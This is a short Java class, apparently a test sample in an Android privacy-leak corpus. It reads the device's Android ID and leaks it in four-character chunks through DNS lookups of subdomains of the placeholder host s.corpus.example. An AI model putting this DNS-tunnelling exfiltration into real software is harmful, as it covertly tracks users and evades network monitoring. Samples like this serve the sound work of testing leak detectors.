package org.corpus;

import java.net.InetAddress;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;
import org.corpus.kit.Work;

/** Four digits each. */
public class SplitDns extends Screen {
    @Override
    protected void act() throws Exception {
        String id = Owner.androidId(this);
        for (int at = 0; at < id.length(); at += 4) {
            String name =
                    at / 4
                            + "."
                            + id.substring(at, Math.min(at + 4, id.length()))
                            + ".s.corpus.example";
            Work.attempt(() -> InetAddress.getAllByName(name));
        }
    }
}
